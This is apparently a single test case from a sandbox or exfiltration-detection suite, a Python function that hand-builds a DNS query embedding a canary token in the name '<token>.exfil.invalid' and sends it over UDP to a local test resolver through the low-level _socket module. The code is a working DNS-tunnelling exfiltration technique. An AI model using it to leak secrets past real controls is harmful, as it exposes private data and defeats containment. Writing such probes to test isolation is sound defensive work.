# Network: exfiltrate through a DNS query (for <token>.exfil.invalid) sent to a resolver the
# test runs on 127.0.0.1.
def f():
    import _socket, struct
    name = CANARY['token'] + '.exfil.invalid'
    question = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'
    query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + question + struct.pack('>HH', 1, 1)
    resolver = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    resolver.sendto(query, ('127.0.0.1', CANARY['dns_port']))
    resolver.close()
    return escaped('DNS query sent')
